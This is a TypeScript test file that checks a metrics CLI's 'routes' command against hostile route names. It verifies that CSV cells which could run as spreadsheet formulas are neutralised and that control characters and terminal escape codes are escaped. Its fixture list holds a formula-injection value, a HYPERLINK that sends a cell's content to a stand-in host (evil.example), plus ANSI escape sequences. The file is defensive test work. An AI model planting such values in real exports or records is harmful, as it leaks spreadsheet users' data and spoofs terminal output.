import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, tempFolder } from '../support/cli.js';
import { requestMetrics } from '../support/metrics.js';
import { ingest } from '../support/seed.js';

/** Route templates a client or a careless app could get stored: formulas, line breaks, terminal codes. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  '-2+3',
  '@x',
  '\tindented',
  '\rreturn',
  '/two\nlines',
  '/red\x1b[31mtext',
  '/bell\x07and\x9bcsi',
];

/** A whole CSV text (RFC 4180) as records of fields: quoted fields may hold commas, quotes, line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  const token = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r?\n|$)/gy;
  for (let match = token.exec(text); match && match.index < text.length; match = token.exec(text)) {
    const raw = match[1]!;
    records.at(-1)!.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] !== ',') records.push([]);
  }
  return records.filter((record) => record.length > 0);
}

describe('routes whose templates are hostile', () => {
  const cwd = tempFolder({ database: 'sqlite:./routeperf.sqlite' });
  const seeded = ingest({ database: `sqlite:${join(cwd, 'routeperf.sqlite')}` }, [
    ...HOSTILE.map((route) => requestMetrics({ route, requestTime: 5 })),
    requestMetrics({ route: '/plain', requestTime: 5 }),
  ]);

  it('csv: a cell a spreadsheet would run as a formula starts with a quote mark; numbers stay numbers', async () => {
    await seeded;
    const result = await runCli(['routes', '--format', 'csv', '--sort', 'route'], { cwd });
    expect(result.code).toBe(0);
    const [header, ...rows] = parseCsv(result.stdout);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const route = header!.indexOf('route');
    const count = header!.indexOf('count');
    const routes = rows.map((row) => row[route]!);
    for (const hostile of HOSTILE) {
      expect(routes).toContain(/^[=+\-@\t\r]/.test(hostile) ? `'${hostile}` : hostile);
    }
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((row) => row[count])).toEqual(rows.map(() => '1'));
  });

  it('table: one line per route, control characters escaped, no terminal codes', async () => {
    await seeded;
    const result = await runCli(['routes', '--sort', 'route'], { cwd });
    expect(result.code).toBe(0);
    const lines = result.stdout.split('\n');
    const header = lines.findIndex((line) => line.startsWith('METHOD'));
    const rows = lines.slice(header + 1, lines.indexOf('', header));
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) expect(row).toMatch(/^GET {2}/);
    expect(result.stdout).not.toMatch(/[\p{Cc}](?<!\n)/u);
    expect(result.stdout).toContain('/two\\nlines');
    expect(result.stdout).toContain('/red\\x1b[31mtext');
    expect(result.stdout).toContain('/bell\\x07and\\x9bcsi');
    expect(result.stdout).toContain('\\tindented');
  });
});
